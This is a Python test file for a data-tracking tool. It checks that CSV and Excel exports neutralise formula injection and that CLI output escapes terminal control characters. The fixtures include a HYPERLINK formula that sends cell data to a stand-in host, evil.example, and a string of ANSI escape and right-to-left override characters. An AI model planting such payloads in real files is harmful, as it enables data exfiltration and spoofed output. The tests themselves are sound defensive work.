"""Hostile text in every output (issue 12, items 2 and 7): user-controlled text never becomes a
formula in a CSV or Excel file we write, is shown exactly (no visible apostrophe in Excel), numbers
stay numbers, and the terminal never receives raw control characters.  The stored text is kept
exactly (nothing lost)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from jxtrack.cli import run as cli
from jxtrack.domain.access import OPERATOR
from jxtrack.present import outputs
from jxtrack.services.importing import commit_import

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ESCAPES = "report\n2026\x1b[2J\x1b]0;pwned\x07\u202eslx.exe"


def _refused_upload(store, name: str) -> int:
    res = commit_import(store, b"this is not a spreadsheet at all", name, OPERATOR)
    assert res.status == "rejected"
    return res.upload_id


def _run(capsys, *args):
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


# ---- the one neutraliser -------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("+1+1", "'+1+1"),
    ("-A1", "'-A1"),
    ("\t=1", "'\t=1"),
    ("\x00=1", "'=1"),
    ("＝1+1", "'＝1+1"),
    ("-10.4", "-10.4"),        # a plain number: read as a number, never a formula
    ("+3.5", "+3.5"),
    ("-1,234.5%", "-1,234.5%"),
    ("说明：=1", "说明：=1"),
])
def test_neutralise(text, expected):
    assert outputs.neutralise(text) == expected


def test_csv_neutralises_strings_and_keeps_numbers():
    df = pd.DataFrame({"名称": [HYPERLINK, "南湖区", "-10.4"], "值": [-2.5, 3.0, -7.0], "n": [-1, 2, 3]})
    rows = list(csv.reader(io.StringIO(outputs.csv_bytes(df).decode("utf-8-sig"))))
    assert rows[0] == ["名称", "值", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "南湖区", "-10.4"]
    assert [r[1] for r in rows[1:]] == ["-2.5", "3.0", "-7.0"]     # negative numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3"]
    assert df.iloc[0, 0] == HYPERLINK                             # the caller's frame is untouched


def test_excel_writes_text_cells_without_apostrophe_and_numbers_as_numbers():
    df = pd.DataFrame({"名称": [HYPERLINK, "-A1", "南湖区"], "值": [-2.5, None, 4.0]})
    ws = load_workbook(io.BytesIO(outputs.xlsx_bytes(df, "检查结果"))).active
    assert ws.title == "检查结果"
    names = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.value for c in names] == [HYPERLINK, "-A1", "南湖区"]   # exactly, no leading apostrophe
    assert all(c.data_type == "s" for c in names)
    assert [c.quotePrefix for c in names] == [True, True, False]
    values = [ws.cell(row=r, column=2) for r in (2, 3, 4)]
    assert [c.value for c in values] == [-2.5, None, 4.0] and values[0].data_type == "n"


def test_app_downloads_go_through_the_neutraliser(monkeypatch):
    from jxtrack.ui import common

    got = {}

    class Col:
        def download_button(self, label, data, file_name, *a, **k):
            got[file_name] = data

    monkeypatch.setattr(common.st, "columns", lambda n: [Col() for _ in range(n)])
    df = pd.DataFrame({"读到的值": [HYPERLINK, "@x"], "差距": [-3.5, 1.0]})
    common.downloads(df, "检查结果", "k")
    text = got["检查结果.csv"].decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text and "\n'@x," in text and ",-3.5" in text
    xlsx = got["检查结果.xlsx"]
    ws = load_workbook(io.BytesIO(xlsx() if callable(xlsx) else xlsx)).active   # written on click
    assert ws["A2"].value == HYPERLINK and ws["A2"].data_type == "s" and ws["B2"].value == -3.5


# ---- the CLI's outputs ---------------------------------------------------------------------------

def test_uploads_csv_neutralises_a_formula_file_name(empty_store, capsys):
    uid = _refused_upload(empty_store, HYPERLINK)
    code, out, _ = _run(capsys, "uploads", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["file_name"] for r in rows] == ["'" + HYPERLINK]
    assert rows[0]["upload_id"] == str(uid)
    # nothing lost: the stored name and the json output are exact
    assert empty_store.get_upload(uid)["file_name"] == HYPERLINK
    code, out, _ = _run(capsys, "uploads", "--format", "json")
    assert json.loads(out)[0]["file_name"] == HYPERLINK


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_uploads_never_prints_control_characters(empty_store, capsys, fmt):
    uid = _refused_upload(empty_store, ESCAPES)
    code, out, _ = _run(capsys, "uploads", "--format", fmt)
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\u202e")
    if fmt == "json":
        assert json.loads(out)[0]["file_name"] == ESCAPES     # exact, through JSON escapes
    else:
        assert out.count("\n") == 2                           # header and one row: no line broken
        assert "report\\n2026\\e[2J\\e]0;pwned\\x07\\u202eslx.exe" in out
    assert empty_store.get_upload(uid)["file_name"] == ESCAPES


def test_import_report_escapes_the_file_name(empty_store, tmp_path, capsys):
    f = tmp_path / "x.csv"
    f.write_bytes(b"junk")
    uid_before = len(empty_store.uploads())
    # the name comes from the path; a newline and ESC in a file name are legal on Linux
    hostile = tmp_path / "a\nb\x1b[31m.csv"
    f.rename(hostile)
    code, out, err = _run(capsys, "import", str(hostile))
    assert code == cli.EXIT_USER
    assert "\x1b" not in out + err and "a\\nb\\e[31m.csv" in out
    assert len(empty_store.uploads()) == uid_before + 1


def test_printable_keeps_ordinary_text():
    assert outputs.printable("嘉善县 2026年1-10月　说明") == "嘉善县 2026年1-10月　说明"
    assert outputs.printable(None) == ""


# ---- item 7: messages, not internal errors ---------------------------------------------------

@pytest.mark.parametrize("limit", ["-1", "0", "x"])
def test_uploads_bad_limit_is_a_message(empty_store, capsys, limit):
    code, out, err = _run(capsys, "uploads", "--limit", limit)
    assert code == cli.EXIT_USER and out == ""
    assert err.startswith("错误：参数错误") and "--limit" in err and len(err.splitlines()) == 1


def test_uploads_limit_limits(empty_store, capsys):
    for i in range(3):
        _refused_upload(empty_store, f"f{i}.xlsx")
    code, out, _ = _run(capsys, "uploads", "--format", "csv", "--limit", "2")
    assert code == 0 and [r["file_name"] for r in csv.DictReader(io.StringIO(out))] == ["f2.xlsx", "f1.xlsx"]


@pytest.mark.parametrize("target, words", [
    ("/proc/jxtrack-test.docx", "无法写入"),            # a folder nobody may create files in
    ("/sys/jxtrack-test.xlsx", "无法写入"),
    ("{tmp}", "文件夹"),                                # the target is a folder
    ("/nonexistent-dir/x.docx", "不存在"),
])
def test_report_to_an_unwritable_place_is_a_message(demo_store, tmp_path, capsys, target, words):
    folder = tmp_path / "out.docx"
    folder.mkdir()
    target = target.format(tmp=folder)
    code, out, err = _run(capsys, "report", "--no-charts", "-o", target)
    assert code == cli.EXIT_USER, err
    assert err.startswith("错误：") and words in err and len(err.splitlines()) == 1
    assert list(folder.iterdir()) == []                 # no temporary file left behind
